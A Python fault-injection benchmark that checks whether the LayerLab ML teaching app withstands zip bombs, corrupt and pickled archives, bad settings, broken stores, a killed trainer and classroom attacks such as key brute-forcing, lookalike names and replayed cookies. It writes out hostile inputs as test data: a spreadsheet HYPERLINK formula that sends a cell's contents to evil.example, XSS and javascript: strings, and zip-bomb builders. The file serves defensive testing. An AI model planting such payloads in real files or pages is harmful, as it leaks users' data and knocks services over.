"""Fault injection: how many of N hostile inputs and failures LayerLab survives with nothing
lost. Survived means: refused or recovered with a LabError (no other exception, no
traceback, no MemoryError), this process's memory did not jump, and a canary run already
in the store — its row and its metrics — is unchanged, the store intact.

    python bench/faults.py [--no-trainer]

Faults: zip bombs (declared 3.7 GB, 1.5 TiB in 12 KB, a header that lies small), damaged
and garbage archives, pickled arrays, a worker out of memory, CSV and Markdown injection
(a corpus of strings, a share link whose layer type is an image), settings that leave
no data (through the CLI, which must refuse before TensorFlow loads), out-of-range
settings, oversized and garbled architectures, a corrupt, a full and a read-only store, a
trainer killed with SIGKILL mid-run (skip with ``--no-trainer``; it needs TensorFlow), and
the class-mode attacks of issue 23: a student locking the teacher out with wrong keys, a
weak teacher key, a run on a student's own dataset topping the board, the hidden half
worked out before Reveal, lookalike and blank names, a replayed cookie after Leave, the
class CLI without ``--as``, 16-megapixel prediction images and a full disk before any
checkpoint. Prints one line per fault and then ``survived K of N``.
"""
from __future__ import annotations

import argparse
import base64
import csv
import io
import itertools
import json
import os
import resource
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from contextlib import redirect_stderr
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import numpy as np  # noqa: E402

from builder import cli, compare, dataset_summary, datasets, inference  # noqa: E402
from builder.access import Actor  # noqa: E402
from builder.architecture import MAX_BYTES, Architecture, Layer  # noqa: E402
from builder.classroom import TEACHER_ACTOR, keys, roster  # noqa: E402
from builder.classroom.challenge import submit_run  # noqa: E402
from builder.classroom.halves import public_half  # noqa: E402
from builder.classroom.leaderboard import (TEACHER_DATASET, leaderboard, not_ranked,  # noqa: E402
                                           reference_labels)
from builder.classroom.visibility import results_of  # noqa: E402
from builder.errors import LabError  # noqa: E402
from builder.settings import TrainSettings  # noqa: E402
from builder.store import Store  # noqa: E402

MEMORY_JUMP_KIB = 200 * 1024  # more growth of this process than this is not "survived"
INJECTION = ["![](http://evil.example/p)", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>",
             "<script>alert(1)</script>", "$\\frac{1}{0}$", ":red[alarm]", ":material/warning:",
             "http://evil.example", "www.evil.example", "# heading", "1. list", "- list",
             "title\n===", "| a | b |\n|---|---|", "**bold** _it_ ~~s~~ `c`", "user@evil.example"]


@dataclass
class Outcome:
    fault: str
    survived: bool
    detail: str


# ---------------------------------------------------------------- helpers

def npy(shape: tuple[int, ...], dtype: str, data: bytes) -> bytes:
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": np.lib.format.dtype_to_descr(np.dtype(dtype)),
                                                  "fortran_order": False, "shape": shape})
    return header.getvalue() + data


def archive(x_train: bytes | Iterable[bytes], train: int, side: int = 8) -> bytes:
    """A Keras-layout .npz around ``x_train`` (bytes, or chunks written one at a time so
    that building a bomb takes no memory); labels and a small test split are valid."""
    buffer = io.BytesIO()
    members = {"y_train": npy((train,), "uint8", (np.arange(train) % 3).astype("uint8").tobytes()),
               "x_test": npy((4, side, side), "uint8", bytes(4 * side * side)),
               "y_test": npy((4,), "uint8", bytes([0, 1, 2, 0]))}
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("x_train.npy", "w") as f:
            for chunk in [x_train] if isinstance(x_train, bytes) else x_train:
                f.write(chunk)
        for name, content in members.items():
            zf.writestr(f"{name}.npy", content)
    return buffer.getvalue()


def valid_npz(path: Path, train: int = 300, test: int = 30) -> Path:
    rng = np.random.default_rng(0)
    y_train, y_test = rng.integers(0, 3, train), rng.integers(0, 3, test)
    x_train = rng.integers(0, 120, (train, 8, 8), dtype=np.uint8)
    x_test = rng.integers(0, 120, (test, 8, 8), dtype=np.uint8)
    for c in range(3):
        x_train[y_train == c, 2 * c:2 * c + 2] += 100
        x_test[y_test == c, 2 * c:2 * c + 2] += 100
    np.savez(path, x_train=x_train, y_train=y_train, x_test=x_test, y_test=y_test)
    return path


def tiny_model() -> Architecture:
    return Architecture((8, 8, 1), (Layer.make("Conv2D", filters=4), Layer.make("Flatten"),
                                    Layer.make("Dense", units=3, activation="softmax")), "tiny")


def refused(action: Callable[[], object], *codes: str) -> tuple[bool, str]:
    """True when ``action`` raises a LabError (of one of ``codes`` if given)."""
    try:
        action()
    except LabError as exc:
        ok = not codes or exc.code in codes
        return ok, f"LabError {exc.code}: {str(exc)[:90]}"
    except BaseException as exc:  # noqa: BLE001 — any other failure is what we count
        return False, f"{type(exc).__name__}: {str(exc)[:90]}"
    return False, "accepted"


def rss_kib() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def snapshot(store: Store, run_id: int) -> tuple:
    run = store.run(run_id)
    return (run.name, run.status, run.epochs_done, run.architecture_json,
            tuple(repr(m) for m in store.metrics(run_id)))


def integrity(path: Path) -> str:
    with sqlite3.connect(path) as db:
        return db.execute("PRAGMA integrity_check").fetchone()[0]


# ---------------------------------------------------------------- the faults

class Faults:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.store_path = folder / "runs.sqlite"
        self.store = Store.open(self.store_path)
        self.canary = self.store.create_run(tiny_model(), "digits", TrainSettings(epochs=2), name="canary")
        self.store.claim(1, os.getpid(), self.canary)
        self.store.beat(self.canary, {"phase": "training"}, [(1, 1, "batch", 1.0, 0.5, None, None, 0.1),
                                                             (1, None, "epoch", 0.9, 0.6, 1.0, 0.55, 0.2)])
        self.store.record_epochs(self.canary, 1, 0.2)
        self.store.finish(self.canary, "completed", {"test_accuracy": 0.6})
        self.before = snapshot(self.store, self.canary)

    def file(self, name: str, content: bytes) -> str:
        path = self.folder / name
        path.write_bytes(content)
        return str(path)

    # datasets
    def bomb_declared(self) -> tuple[bool, str]:
        """The issue's file: x_train 14,016×512×512 uint8 (3.7 GB), only its first MB here."""
        path = self.file("declared.npz", archive(npy((14016, 512, 512), "uint8", bytes(1 << 20)), 14016, 512))
        return refused(lambda: dataset_summary.read(path), "npz_too_big")

    def bomb_tib(self) -> tuple[bool, str]:
        content = archive(npy((196_608, 512, 512, 4), "float64", bytes(8192)), 196_608, 512)
        path = self.file("tib.npz", content)
        ok, detail = refused(lambda: dataset_summary.read(path), "npz_too_big")
        return ok and len(content) < 12_000, f"{len(content):,} bytes; {detail}"

    def bomb_lying(self) -> tuple[bool, str]:
        """x_train declares 40×8×8 but inflates to 256 MB (written a MB at a time)."""
        chunks = itertools.chain([npy((40, 8, 8), "uint8", b"")], itertools.repeat(bytes(1 << 20), 256))
        path = self.file("lying.npz", archive(chunks, 40))
        return refused(lambda: dataset_summary.read(path), "npz_corrupt")

    def bomb_in_server(self) -> tuple[bool, str]:
        """The same bombs checked in this process (the server's header check), memory kept."""
        content = archive(npy((14016, 512, 512), "uint8", bytes(1 << 20)), 14016, 512)
        return refused(lambda: datasets.check_archive(content), "npz_too_big")

    def truncated(self) -> tuple[bool, str]:
        whole = Path(valid_npz(self.folder / "whole.npz")).read_bytes()
        path = self.file("cut.npz", whole[: len(whole) // 2])
        return refused(lambda: dataset_summary.read(path), "npz_corrupt")

    def garbage(self) -> tuple[bool, str]:
        path = self.file("garbage.npz", os.urandom(50_000))
        return refused(lambda: dataset_summary.read(path), "npz_corrupt")

    def flipped(self) -> tuple[bool, str]:
        buffer = io.BytesIO()
        rng = np.random.default_rng(1)
        np.savez_compressed(buffer, x_train=rng.integers(0, 255, (400, 8, 8), dtype=np.uint8),
                            y_train=np.arange(400) % 3, x_test=np.zeros((9, 8, 8), np.uint8),
                            y_test=np.arange(9) % 3)
        data = bytearray(buffer.getvalue())
        data[len(data) // 3: len(data) // 3 + 64] = bytes(64)
        path = self.file("flipped.npz", bytes(data))
        return refused(lambda: dataset_summary.read(path), "npz_corrupt")

    def pickled(self) -> tuple[bool, str]:
        buffer = io.BytesIO()
        np.savez(buffer, x_train=np.array([{"evil": 1}] * 20, dtype=object),
                 y_train=np.arange(20) % 3, x_test=np.zeros((4, 8, 8), np.uint8), y_test=np.arange(4) % 3)
        path = self.file("pickled.npz", buffer.getvalue())
        return refused(lambda: dataset_summary.read(path), "npz_pickle")

    def worker_out_of_memory(self) -> tuple[bool, str]:
        """A limit set above what the worker may use: the allocation fails in the worker."""
        path = self.file("big.npz", archive(npy((3000, 512, 512), "uint8", bytes(1 << 16)), 3000, 512))
        os.environ[datasets.MAX_BYTES_ENV] = str(4 << 30)
        original = dataset_summary.worker_memory
        dataset_summary.worker_memory = lambda: 600 << 20
        try:
            return refused(lambda: dataset_summary.read(path), "npz_memory", "dataset_worker")
        finally:
            dataset_summary.worker_memory = original
            del os.environ[datasets.MAX_BYTES_ENV]

    # injection
    def csv_injection(self) -> tuple[bool, str]:
        from components.compare.table import frame
        store = Store.open(self.folder / "csv.sqlite")
        name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        for hostile in (name, "@SUM(1+1)", "+1", "-1+1", "\tx"):
            store.create_run(tiny_model(), "digits", TrainSettings(), name=hostile)
        exported = frame([compare.run_row(r) for r in store.runs()]).map(compare.csv_cell).to_csv(index=False)
        live = [c for row in csv.reader(io.StringIO(exported)) for c in row
                if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        return not live, f"{len(live)} live formula cells" if live else "every hostile cell quoted"

    def markdown_injection(self) -> tuple[bool, str]:
        from markdown_it import MarkdownIt

        from components import safe
        parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
        plain = {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "hardbreak"}
        bad = [s for s in INJECTION
               if {t.type for tok in parser.parse(safe.escape(s)) for t in [tok, *(tok.children or ())]} - plain]
        return not bad, f"{len(INJECTION) - len(bad)} of {len(INJECTION)} strings shown as text"

    def share_link_image(self) -> tuple[bool, str]:
        from markdown_it import MarkdownIt

        from components import safe, share
        doc = json.loads(tiny_model().to_json())
        doc["layers"][0]["type"] = "![](http://evil.example/p)"
        token = base64.urlsafe_b64encode(zlib.compress(json.dumps(doc).encode())).rstrip(b"=").decode()
        try:
            share.decode(token)
        except LabError as exc:
            kinds = {t.type for tok in MarkdownIt().parse(safe.error(exc, "en")) for t in tok.children or ()}
            return "image" not in kinds and "link_open" not in kinds, f"LinkError shown as text: {sorted(kinds)}"
        return False, "accepted"

    # settings and architectures
    def cli_split(self) -> tuple[bool, str]:
        arch = self.folder / "tiny.json"
        arch.write_text(tiny_model().to_json())
        data = valid_npz(self.folder / "tiny.npz")
        store = self.folder / "cli.sqlite"
        code = ("import sys, json\nfrom builder import cli\n"
                f"code = cli.main(['train', {str(arch)!r}, '--dataset', {str(data)!r}, "
                "'--validation-split', '0.99999', '--lang', 'en'])\n"
                "print(json.dumps([code, sorted({m.split('.')[0] for m in sys.modules} & {'tensorflow', 'keras'})]))")
        done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True,
                              env={**os.environ, "LAYERLAB_STORE": str(store)}, timeout=120)
        exit_code, heavy = json.loads(done.stdout.strip().splitlines()[-1])
        runs = Store.open(store).runs() if store.exists() else []
        ok = exit_code == 2 and not heavy and not runs and "Traceback" not in done.stderr
        return ok, f"exit {exit_code}, heavy imports {heavy}, runs {len(runs)}: {done.stderr.strip()[:80]}"

    def bad_settings(self) -> tuple[bool, str]:
        cases = [{"batch_size": 0}, {"learning_rate": -1.0}, {"learning_rate": float("nan")},
                 {"validation_split": 1.0}, {"epochs": 10**9}, {"limit": 3}, {"optimizer": "evil"},
                 {"seed": True}]
        results = [refused(lambda c=c: TrainSettings(**c), "bad_setting")[0] for c in cases]
        return all(results), f"{sum(results)} of {len(cases)} refused"

    def huge_architecture(self) -> tuple[bool, str]:
        return refused(lambda: Architecture.from_json(b" " * (MAX_BYTES + 1)), "too_big")

    def garbled_link(self) -> tuple[bool, str]:
        from components import share
        return refused(lambda: share.decode("!!not-a-link!!"), "bad_link")

    # the store
    def corrupt_store(self) -> tuple[bool, str]:
        path = self.folder / "corrupt.sqlite"
        content = b"SQLite format 3\x00" + os.urandom(8000)
        path.write_bytes(content)
        ok, detail = refused(lambda: Store.open(path).runs())
        unchanged = path.read_bytes() == content
        return ok and unchanged, f"{detail}; file {'unchanged' if unchanged else 'OVERWRITTEN'}"

    def full_disk(self) -> tuple[bool, str]:
        """The run store's disk fills up (a file-size limit in a child process writing to
        the canary's own store): writes fail with a LabError, the canary is kept."""
        code = ("import os, resource, signal\n"
                "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
                "from bench.faults import tiny_model\n"
                "from builder.errors import LabError\nfrom builder.settings import TrainSettings\n"
                "from builder.store import Store\n"
                f"store = Store.open({str(self.store_path)!r})\n"
                "total = sum(os.path.getsize(p) for p in os.listdir('.') if p.startswith('runs.sqlite'))\n"
                "resource.setrlimit(resource.RLIMIT_FSIZE, (total + 8192, resource.RLIM_INFINITY))\n"
                "try:\n"
                "    for i in range(500):\n"
                "        store.create_run(tiny_model(), 'digits', TrainSettings(), name='x' * 4000)\n"
                "    print('accepted')\n"
                "except LabError as exc:\n"
                "    print('LabError', exc.code)\n")
        done = subprocess.run([sys.executable, "-c", code], cwd=self.folder, capture_output=True, text=True,
                              env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
        said = (done.stdout.strip().splitlines() or done.stderr.strip().splitlines() or ["nothing"])[-1]
        return said.startswith("LabError"), said[:120]

    def read_only_store(self) -> tuple[bool, str] | None:
        if os.geteuid() == 0:
            return None  # root writes to read-only folders anyway: cannot be made here
        folder = self.folder / "ro"
        folder.mkdir()
        store = Store.open(folder / "runs.sqlite")
        run_id = store.create_run(tiny_model(), "digits", TrainSettings(), name="kept")
        store.close()
        (folder / "runs.sqlite").chmod(0o444)
        folder.chmod(0o555)
        try:
            reopened = Store.open(folder / "runs.sqlite", recover=False)
            readable = reopened.run(run_id).name == "kept"
            ok, detail = refused(lambda: reopened.create_run(tiny_model(), "digits", TrainSettings()))
            return ok and readable, f"reads {'work' if readable else 'FAIL'}; {detail}"
        except BaseException as exc:  # noqa: BLE001
            return False, f"{type(exc).__name__}: {str(exc)[:90]}"
        finally:
            folder.chmod(0o755)

    def killed_trainer(self) -> tuple[bool, str]:
        arch = self.folder / "kill.json"
        arch.write_text(tiny_model().to_json())
        data = valid_npz(self.folder / "kill.npz", train=600)
        store_path = self.folder / "kill.sqlite"
        trainer = subprocess.Popen([sys.executable, "-m", "builder", "train", str(arch), "--dataset", str(data),
                                    "--epochs", "200", "--batch-size", "16"], cwd=ROOT,
                                   env={**os.environ, "LAYERLAB_STORE": str(store_path)},
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            deadline, epochs = time.monotonic() + 240, []
            while time.monotonic() < deadline and len(epochs) < 2 and trainer.poll() is None:
                time.sleep(0.5)
                if store_path.exists():
                    runs = Store.open(store_path, recover=False).runs()
                    epochs = Store.open(store_path, recover=False).metrics(runs[0].id, kind="epoch") if runs else []
            if len(epochs) < 2:
                return False, "the trainer did not reach epoch 2"
            os.killpg(trainer.pid, signal.SIGKILL)
            trainer.wait(30)
            store = Store.open(store_path)
            run = store.runs()[0]
            kept = store.metrics(run.id, kind="epoch")
            ok = run.status == "interrupted" and len(kept) >= len(epochs) and integrity(store_path) == "ok"
            return ok, f"status {run.status}, {len(kept)} epochs kept of {len(epochs)} seen, store {integrity(store_path)}"
        finally:
            if trainer.poll() is None:
                os.killpg(trainer.pid, signal.SIGKILL)
                trainer.wait(30)


class ClassFaults:
    """Issue 23's attacks on a class, in a store of their own (the canary's stays apart)."""

    KEY = "correct horse battery staple"

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.store = Store.open(folder / "class.sqlite")
        keys.remember_key(self.store, self.KEY)
        self.store.set_setting(TEACHER_DATASET, "digits", actor=TEACHER_ACTOR)
        self.store.set_setting("queue.max_queued", 50, actor=TEACHER_ACTOR)

    def finished(self, owner: str, dataset: str, predicted: np.ndarray, label: np.ndarray) -> int:
        run_id = submit_run(self.store, Actor(owner), Architecture(
            (8, 8, 1), (Layer.make("Flatten"), Layer.make("Dense", units=10, activation="softmax"))),
            dataset, TrainSettings(epochs=1, limit=100))
        self.store.claim(1, os.getpid(), run_id)
        folder = self.store.run_dir(run_id)
        folder.mkdir(parents=True, exist_ok=True)
        np.savez(folder / "predictions.npz", label=label, predicted=predicted,
                 confidence=np.ones(label.size, "float16"), indices=np.zeros(0, "int64"),
                 images=np.zeros((0, 8, 8), "uint8"))
        self.store.add_artifact(run_id, "predictions", folder / "predictions.npz")
        self.store.finish(run_id, "completed", {
            "test_accuracy": float((label == predicted).mean()), "best_epoch": 1,
            "class_names": [str(d) for d in range(10)], "confusion": [[0]], "mistakes": []})
        return run_id

    def teacher_lockout(self) -> tuple[bool, str]:
        """300 wrong keys from the back row, one a second, each from a fresh session."""
        now = time.time()
        for i in range(300):
            refused(lambda: keys.check_key(self.store, f"guess{i}", self.KEY, "10.0.0.66", now=now + i))
        ok, detail = refused(lambda: keys.check_key(self.store, self.KEY, self.KEY, "10.0.0.2",
                                                    now=now + 300))
        return detail == "accepted", f"the teacher's key after 300 wrong ones: {detail}"

    def weak_key(self) -> tuple[bool, str]:
        return refused(lambda: keys.remember_key(self.store, "open sesame"), "weak_key")

    def own_dataset(self) -> tuple[bool, str]:
        """Eve's trivial .npz scores 100 % on its own labels; Finn's honest digits run."""
        eve = self.finished("Eve", self.file_dataset(), np.zeros(60, "int16"), np.zeros(60, "int16"))
        truth = reference_labels("digits")
        honest = truth.copy()
        honest[:30] = (truth[:30] + 1) % 10
        forged = self.finished("Mal", "digits", np.zeros(truth.size, "int16"), np.zeros(truth.size, "int16"))
        board = leaderboard(self.store)
        top = board[0] if board else None
        left = {n.run_id: n.reason for n in not_ranked(self.store)}
        finn = self.finished("Finn", "digits", honest, truth)
        board = leaderboard(self.store)
        ok = (board[0].owner == "Finn" and left.get(eve) == "class.why_dataset"
              and top is not None and top.run_id == forged and top.public_accuracy < 0.2)
        return ok, (f"Eve not ranked ({left.get(eve)}); forged labels scored "
                    f"{top.public_accuracy if top else float('nan'):.0%}; first: {board[0].owner} (run {finn})")

    def file_dataset(self) -> str:
        path = self.folder / "eve.npz"
        rng = np.random.default_rng(0)
        np.savez(path, x_train=rng.integers(0, 255, (60, 8, 8), dtype=np.uint8), y_train=np.zeros(60, "uint8"),
                 x_test=np.zeros((60, 8, 8), np.uint8), y_test=np.zeros(60, "uint8"))
        return str(path)

    def hidden_half(self) -> tuple[bool, str]:
        """A run right on the public half only: what a student sees must equal the board."""
        truth = reference_labels("digits")
        public = public_half(truth.size)
        run_id = self.finished("Gil", "digits", np.where(public, truth, (truth + 1) % 10).astype("int16"), truth)
        seen = results_of(self.store, self.store.run(run_id), Actor("Finn"))
        full = self.store.run(run_id).results["test_accuracy"]
        ok = seen is not None and seen["test_accuracy"] == 1.0 and seen.get("half") == "public"
        return ok, f"full {full:.2%}, a student sees {seen and seen['test_accuracy']:.2%} (public half)"

    def lookalike_names(self) -> tuple[bool, str]:
        roster.join(self.store, "Ana")
        corpus = ["\u03a4eacher", "T\u0435acher", "ＴＥＡＣＨＥＲ", "\u0410na", "Aná", "ANA",
                  "\u3164\u3164", "\u115f", "\u2800", "Ana\u200b", "A\u2028na", "\u0301"]
        results = [refused(lambda n=n: roster.join(self.store, n)) for n in corpus]
        return all(ok for ok, _ in results), f"{sum(ok for ok, _ in results)} of {len(corpus)} refused"

    def replayed_cookie(self) -> tuple[bool, str]:
        _, token = roster.join(self.store, "Hana")
        roster.leave(self.store, token)
        actor = roster.actor_for(self.store, token)
        return actor is None, f"after Leave the old token is {actor or 'nobody'}"

    def cli_without_as(self) -> tuple[bool, str]:
        run_id = self.finished("Ivy", "digits", np.zeros(2, "int16"), np.zeros(2, "int16"))
        os.environ["LAYERLAB_STORE"], saved = str(self.store.path), os.environ.get("LAYERLAB_STORE")
        key = os.environ.pop(keys.KEY_ENV, None)
        try:
            with redirect_stderr(io.StringIO()) as err:
                status = cli.main(["runs", "rename", str(run_id), "stolen", "--lang", "en"])
        finally:
            os.environ.pop("LAYERLAB_STORE")
            if saved is not None:
                os.environ["LAYERLAB_STORE"] = saved
            if key is not None:
                os.environ[keys.KEY_ENV] = key
        name = self.store.run(run_id).name
        return status == 2 and name != "stolen", f"exit {status}, name kept; {err.getvalue().strip()[:80]}"

    def huge_image(self) -> tuple[bool, str]:
        """The trial's 16-megapixel image, as PNG (refused by its header) and as JPEG
        (reduced while decoding), against a 28×28 model."""
        from PIL import Image
        big = Image.new("L", (4000, 4000), 255)
        png, jpeg = self.folder / "big.png", self.folder / "big.jpg"
        big.save(png)
        big.save(jpeg, quality=90)
        del big
        start = time.perf_counter()
        ok_png, detail = refused(lambda: inference.prepare(png, (28, 28, 1)), "image_pixels")
        png_s = time.perf_counter() - start
        start = time.perf_counter()
        pixels, _ = inference.prepare(jpeg, (28, 28, 1))
        jpeg_s = time.perf_counter() - start
        ok = ok_png and "4000×4000" in detail and pixels.shape == (28, 28, 1)
        return ok, f"PNG refused in {png_s:.2f} s ({detail[:60]}…); JPEG read reduced in {jpeg_s:.2f} s"

    def full_disk_message(self) -> tuple[bool, str]:
        from types import SimpleNamespace

        from builder.trainer import full_disk_error
        error = full_disk_error(SimpleNamespace(checkpoint=lambda kind: None))
        text = error.text("en")
        return error.code == "disk_full_no_checkpoint" and "cannot continue" in text, text[:90]


CLASS_FAULTS = ["teacher_lockout", "weak_key", "own_dataset", "hidden_half", "lookalike_names",
                "replayed_cookie", "cli_without_as", "huge_image", "full_disk_message"]


def run_all(with_trainer: bool) -> list[Outcome]:
    names = ["bomb_declared", "bomb_tib", "bomb_lying", "bomb_in_server", "truncated", "garbage",
             "flipped", "pickled", "worker_out_of_memory", "csv_injection", "markdown_injection",
             "share_link_image", "cli_split", "bad_settings", "huge_architecture", "garbled_link",
             "corrupt_store", "full_disk", "read_only_store"] + (["killed_trainer"] if with_trainer else [])
    outcomes = []
    with tempfile.TemporaryDirectory(prefix="layerlab-faults-") as folder:
        faults = Faults(Path(folder))
        classroom = ClassFaults(Path(folder))
        for name in names + CLASS_FAULTS:
            start_rss = rss_kib()
            try:
                result = getattr(classroom if name in CLASS_FAULTS else faults, name)()
            except BaseException as exc:  # noqa: BLE001 — the bench itself must report, not stop
                result = (False, f"{type(exc).__name__}: {str(exc)[:90]}")
            if result is None:
                print(f"skip  {name}: cannot be made on this machine", flush=True)
                continue
            ok, detail = result
            grew = rss_kib() - start_rss
            intact = snapshot(Store.open(faults.store_path), faults.canary) == faults.before
            healthy = integrity(faults.store_path) == "ok"
            survived = ok and grew < MEMORY_JUMP_KIB and intact and healthy
            if not (intact and healthy):
                detail += "; the canary run CHANGED"
            if grew >= MEMORY_JUMP_KIB:
                detail += f"; this process grew {grew // 1024} MiB"
            outcomes.append(Outcome(name, survived, detail))
            print(f"{'ok  ' if survived else 'LOST'}  {name}: {detail}", flush=True)
    return outcomes


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--no-trainer", action="store_true", help="skip the SIGKILLed trainer (no TensorFlow)")
    args = parser.parse_args()
    outcomes = run_all(not args.no_trainer)
    print(f"survived {sum(o.survived for o in outcomes)} of {len(outcomes)}")


if __name__ == "__main__":
    main()
